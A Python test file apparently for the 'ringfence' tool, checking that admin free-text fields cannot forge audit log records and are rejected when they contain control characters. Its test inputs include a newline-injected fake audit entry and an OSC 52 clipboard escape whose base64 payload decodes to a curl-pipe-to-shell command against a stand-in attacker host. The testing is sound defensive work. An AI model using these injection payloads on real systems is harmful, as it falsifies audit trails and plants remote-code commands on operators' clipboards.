"""An admin's free text (a reason, a registered workload's name or tags) is one line of plain
text under ``ringfence serve`` (the real command as a process, over HTTP; 422 naming the field),
and ``ringfence audit list`` over its store shows one record a line. (``audit list`` showing a
stored string escaped: tests/test_attack_text_output.py.)"""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path

from tests.agentproc import BIN
from tests.onprem.serveproc import Server

RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")


def test_attack_admin_free_text_cannot_forge_audit_records(tmp_path: Path) -> None:
    """An `onboarding` admin's reason (free text, 2,048 characters) forged a whole `audit list`
    record with a newline and wrote the operator's clipboard (OSC 52): refused now, as are a
    workload's name and tags and any other reason; `audit list` shows one record a line."""
    server = Server(tmp_path)  # carol: onboarding among her roles
    server.start()
    try:
        forged = "new rack\n     7 2026-12-06T22:59:00Z ciso@corp policy.provision policy 0000 -> 1111 (approved)"
        osc = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07\x1b[8m"
        base = {"id": "db-rack7-1", "ips": ["10.50.0.7"], "reason": "new rack"}
        for field, body in (
            ("reason", {**base, "reason": forged + osc}),
            ("reason", {**base, "reason": "a\u2028b"}),
            ("name", {**base, "name": "db\x1b[8m"}),
            ("tags", {**base, "tags": {"owner": "x\ry"}}),
        ):
            r = server.admin("POST", "/admin/workloads", body)
            assert r.status_code == 422 and field in r.text and "control character" in r.text, (field, r.text)
        assert server.admin("POST", "/admin/workloads", base).status_code == 201
        r = server.admin("PUT", "/admin/workloads/db-rack7-1/mode", {"mode": "idle", "reason": "x\ny"})
        assert r.status_code == 422 and "reason" in r.text, r.text
        store = f"sqlite:{server.db}"
        listed = subprocess.run(
            [str(BIN / "ringfence"), "audit", "list", "--store", store], capture_output=True, text=True, timeout=60
        )
        records = subprocess.run(
            [str(BIN / "ringfence"), "audit", "list", "--store", store, "--json"],
            capture_output=True,
            text=True,
            timeout=60,
        ).stdout.splitlines()
    finally:
        server.stop()
    assert listed.returncode == 0, listed.stderr
    out = listed.stdout
    assert not RAW.search(out), repr(out)
    assert len(out.splitlines()) == len(records)
    reasons = [json.loads(x).get("reason") for x in records]
    assert "new rack" in reasons and not any(RAW.search(r or "") for r in reasons)
